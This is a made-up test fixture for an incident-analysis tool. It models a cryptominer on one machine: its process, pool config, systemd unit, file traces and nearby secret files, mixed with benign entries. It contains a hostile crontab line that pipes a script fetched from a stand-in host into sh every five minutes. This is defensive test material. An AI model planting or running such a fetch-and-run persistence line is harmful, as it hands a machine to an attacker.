/** An incident on one machine, for the tests of what was touched, of what is gone and of how that is told. All made up. */
import type { Case } from '../src/model/case.ts';
import { makeMachineCase, type OnMachine, sha256Of } from './make-machine-case.ts';

export const minerPath = '/tmp/.x/kdevtmpfsi';
export const cronLine = '*/5 * * * * root curl -s http://drop.example/a.sh | sh';
const came = '2026-11-19T03:12:00.000Z';
const started = '2026-11-19T03:14:05.000Z';

export const minerProcess: OnMachine = {
  in: '/proc/4711',
  kind: 'process',
  value: {
    pid: 4711,
    name: 'kdevtmpfsi',
    program: minerPath,
    programState: 'present',
    command: `${minerPath} -o pool.example.com:3333 -u x`,
    user: 'www-data',
    uid: 33,
    start: started,
    packaged: 'no',
    cores: 3.8,
    connections: [{ protocol: 'tcp', local: '10.0.0.5:41000', remote: '198.51.100.7:3333', state: 'established' }],
    why: ['mines', 'talks-to-pool', 'from-temporary-folder'],
  },
};

export const minerConfig: OnMachine = {
  in: minerPath,
  kind: 'mining-config',
  value: { pools: [{ host: 'pool.example.com', port: 3333, login: 'x' }], source: 'binary' },
};

export function trace(path: string, value: Record<string, unknown> = {}): OnMachine {
  return {
    in: path,
    kind: 'file-trace',
    value: {
      path,
      form: 'program',
      size: 4000,
      sha256: sha256Of(path),
      owner: 'www-data',
      modified: came,
      changed: came,
      packaged: 'no',
      why: ['temporary-folder'],
      ...value,
    },
  } as OnMachine; // a test may leave fields out
}

export const cronEntry: OnMachine = {
  in: '/etc/crontab',
  kind: 'autostart',
  line: 7,
  value: {
    mechanism: 'cron',
    place: '/etc/crontab',
    entry: cronLine,
    starts: 'curl -s http://drop.example/a.sh | sh',
    user: 'root',
    when: '*/5 * * * *',
    modified: '2026-11-19T03:13:00.000Z',
    hash: sha256Of(cronLine),
    why: ['fetches-and-runs'],
    carries: 'download',
  },
};

/** A unit of the distribution's, which everybody has. */
const ordinaryUnit: OnMachine = {
  in: '/lib/systemd/system/nginx.service',
  kind: 'autostart',
  value: {
    mechanism: 'systemd',
    place: '/lib/systemd/system/nginx.service',
    name: 'nginx.service',
    starts: '/usr/sbin/nginx',
    programs: ['/usr/sbin/nginx'],
    packaged: 'yes',
    modified: '2026-11-19T03:14:00.000Z',
    why: [],
  },
};

const adminsCron: OnMachine = {
  in: '/etc/crontab',
  kind: 'autostart',
  line: 3,
  value: {
    mechanism: 'cron',
    place: '/etc/crontab',
    entry: '0 3 * * * root /usr/local/bin/backup.sh',
    starts: '/usr/local/bin/backup.sh',
    programs: ['/usr/local/bin/backup.sh'],
    modified: '2026-11-19T03:13:00.000Z',
    why: [],
  },
};

export const minersUnit: OnMachine = {
  in: '/etc/systemd/system/netd.service',
  kind: 'autostart',
  value: {
    mechanism: 'systemd',
    place: '/etc/systemd/system/netd.service',
    name: 'netd.service',
    starts: minerPath,
    programs: [minerPath],
    enabled: true,
    packaged: 'no',
    why: ['from-temporary-folder'],
  },
};

const ownersKey: OnMachine = {
  in: '/var/www/.ssh/id_ed25519',
  kind: 'secret-at-hand',
  value: { what: 'ssh-key', place: '/var/www/.ssh/id_ed25519', user: 'www-data', hosts: ['backup.example'] },
};
const rootsKey: OnMachine = {
  in: '/root/.aws/credentials',
  kind: 'secret-at-hand',
  value: { what: 'cloud-credentials', place: '/root/.aws/credentials', user: 'root', readableBy: 'owner' },
};

export const incidentParts: readonly OnMachine[] = [
  minerProcess,
  minerConfig,
  cronEntry,
  minersUnit,
  trace(minerPath),
  trace('/tmp/.x/run.log', { form: 'log' }),
  trace('/home/anna/report.pdf', { form: 'other', owner: 'anna', why: [] }),
  ordinaryUnit,
  adminsCron,
  ownersKey,
  rootsKey,
];

/** The process, its file, a line of a crontab and a unit are the miner's; the rest is everybody's. */
export function incident(without: readonly OnMachine[] = [], more: readonly OnMachine[] = []): Case {
  const parts = [...incidentParts.filter((part) => !without.includes(part)), ...more];
  const told = [minerProcess, minerConfig, cronEntry].flatMap((part) =>
    parts.includes(part) ? [parts.indexOf(part)] : [],
  );
  return makeMachineCase(
    parts,
    told.map((at) => ({ detector: 'fixture', stage: parts[at] === cronEntry ? 'capability' : 'active', over: [at] })),
    { '/etc/crontab': 'text' },
  );
}
